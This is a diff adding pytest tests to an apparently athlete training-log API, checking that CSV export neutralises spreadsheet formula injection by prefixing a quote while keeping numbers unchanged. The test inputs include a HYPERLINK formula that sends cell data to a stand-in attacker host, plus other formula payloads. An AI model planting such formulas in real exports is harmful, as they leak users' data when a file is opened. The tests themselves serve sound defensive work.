@@ -12,6 +12,7 @@ from typing import Any
 import pytest
 from fastapi.testclient import TestClient
 
+from app.training.service import csv_cell
 from tests.conftest import Athlete, register
 
 BASE = "/v1/athletes/me"
@@ -256,6 +257,36 @@ def test_export_json_and_csv(client: TestClient, athlete: Athlete) -> None:
     assert len(rows) == 3  # two sets, and the workout without sets keeps a row
     assert {r["exercise"] for r in rows} == {"eccentric-heel-raise", "plank", ""}
     assert client.get(f"{BASE}/export?format=xml", headers=athlete.headers).status_code == 422
+
+
+@pytest.mark.parametrize(
+    "note",
+    ['=HYPERLINK("https://evil.example/?d="&A1,"click")', "=1+1", "@SUM(A1)", "-2+3", "+1", "- 1"],
+)
+def test_csv_export_neutralises_formulas_but_keeps_numbers(client: TestClient, athlete: Athlete, note: str) -> None:
+    # A coach with write access could plant a formula that runs when the athlete opens the export.
+    sets = [{"position": 1, "exercise": "pull-up", "reps": 5, "load_kg": -12.5, "tempo": "3-0-1"}]
+    created = client.post(f"{BASE}/workouts", json=workout(notes=note, sets=sets), headers=athlete.headers)
+    assert created.status_code == 201, created.text
+    table = client.get(f"{BASE}/export?format=csv", headers=athlete.headers)
+    [row] = list(csv.DictReader(io.StringIO(table.text, newline="")))
+    assert row["notes"] == "'" + note  # shown as the text it is, not run
+    assert row["load_kg"] == "-12.5" and row["reps"] == "5"  # numbers stay numbers
+    assert row["tempo"] == "3-0-1" and row["pain_site"] == "left-achilles" and row["exercise"] == "pull-up"
+    assert client.get(f"{BASE}/export", headers=athlete.headers).json()["workouts"][0]["notes"] == note
+
+
+def test_csv_cells_starting_with_tab_or_carriage_return_are_neutralised_too() -> None:
+    # Notes are stripped on input, so these reach the export only from text columns added later.
+    assert [csv_cell(v) for v in ("\t=1", "\r=1", "plain", -3, -2.5, True, None)] == [
+        "'\t=1",
+        "'\r=1",
+        "plain",
+        -3,
+        -2.5,
+        True,
+        "",
+    ]
 
 
 def test_erasing_the_account_erases_the_log(client: TestClient, athlete: Athlete) -> None:
